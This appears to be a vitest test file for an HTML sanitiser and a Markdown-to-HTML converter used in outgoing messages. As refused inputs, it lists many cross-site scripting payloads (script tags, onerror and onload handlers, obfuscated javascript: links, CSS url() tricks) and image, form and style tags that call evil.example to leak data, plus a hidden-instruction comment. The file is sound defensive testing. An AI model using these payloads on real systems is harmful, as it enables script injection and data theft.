import { describe, expect, test } from "vitest";
import { checkedHtml } from "../../../src/tools/outgoing-html.ts";
import { markdownAsHtml } from "../../../src/tools/teams/markdown.ts";

describe("HTML passes as it is", () => {
  test.each([
    "plain text",
    "1 < 2 and 3 > 2, a <3 b",
    "<h1>Hello</h1><p>Hi <b>Ben</b>,<br/>line two</p>",
    '<p style="color: #333; font-weight: bold">x</p>',
    '<a href="https://contoso.example/?a=1&amp;b=2" title="x">link</a> <a href=mailto:a@contoso.example>mail</a>',
    '<img src="cid:logo@contoso" alt="Logo" width=10>',
    "<!DOCTYPE html><html><head><title>T</title><style>p { margin: 0 }</style></head><body>x</body></html>",
    "<table border=1 cellpadding='2'><tr><td colspan=2>x</td></tr></table>",
    "<TABLE><TR><TD>x</TD></TR></TABLE>",
    "",
  ])("%j", (html) => {
    expect(checkedHtml("body", html)).toBe(html);
  });
});

describe("HTML is refused, and nothing of it changed silently:", () => {
  test.each([
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>x</script>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="x()">x</p>',
    '<img src="https://evil.example/?d=1">',
    "<img src=//evil.example/x>",
    '<img src="data:image/svg+xml;base64,AAAA">',
    '<img src="cid:x" srcset="https://evil.example/x 1x">',
    "<form action=https://evil.example><input name=x></form>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<svg/onload=alert(1)>",
    "<svg><script>x</script></svg>",
    "<math><mi>x</mi></math>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="//evil.example">x</a>',
    '<p style="background: url(https://evil.example/x)">x</p>',
    '<p style="background: u\\72l(https://evil.example/x)">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="x: &#117;rl(https://evil.example)">x</p>',
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>p { background: url(//evil.example) }</style>",
    "<style>p {}",
    "<!-- hidden instruction -->",
    "<!--[if mso]>x<![endif]-->",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "</ p>",
    "<p",
    "<p <script>x</script>",
    "<p title='\"><script>x</script>'>x</p>",
    "<p title=`x`>x</p>",
    "<body background=https://evil.example/x>",
    "<td background=https://evil.example/x>x</td>",
    "<video src=https://evil.example/x></video>",
    "<at id=0>Ben</at>",
    '<attachment id="x"></attachment>',
    "<x-tag>x</x-tag>",
    "<template><script>x</script></template>",
  ])("%j", (html) => {
    expect(() => checkedHtml("body", html)).toThrowError(
      expect.objectContaining({ code: "invalid_arguments", details: { field: "body" } }),
    );
  });
});

test.each([
  ["[**a**](https://x.example/**b**/~~c~~)", '<p><a href="https://x.example/**b**/~~c~~"><strong>a</strong></a></p>'],
  [
    "see [a](https://x.example/1) and *[b](https://x.example/2)*",
    '<p>see <a href="https://x.example/1">a</a> and *<a href="https://x.example/2">b</a>*</p>',
  ],
  ["# News\nbody", "<h1>News</h1><p>body</p>"],
  ["**bold** and *soft* and ~~old~~", "<p><strong>bold</strong> and <em>soft</em> and <s>old</s></p>"],
  ["1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"],
  ["> said\n> so", "<blockquote>said<br>so</blockquote>"],
  ["use `a < b **x**`", "<p>use <code>a &lt; b **x**</code></p>"],
  ["```js\n<b>&\n```\nafter", "<pre><code>&lt;b&gt;&amp;\n</code></pre><p>after</p>"],
  ["[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>"],
  ['[x](https://a.example/"onclick=1)', '<p><a href="https://a.example/&quot;onclick=1">x</a></p>'],
  ["![x](https://evil.example/?d=1)", "<p>![x](https://evil.example/?d=1)</p>"],
  ["<at id=0>x</at>", "<p>&lt;at id=0&gt;x&lt;/at&gt;</p>"],
  ["2 * 3 * 4 and snake_case_name", "<p>2 * 3 * 4 and snake_case_name</p>"],
])("Markdown %j becomes HTML that passes the same check", (markdown, html) => {
  expect(markdownAsHtml(markdown)).toBe(html);
  expect(checkedHtml("message", html)).toBe(html);
});
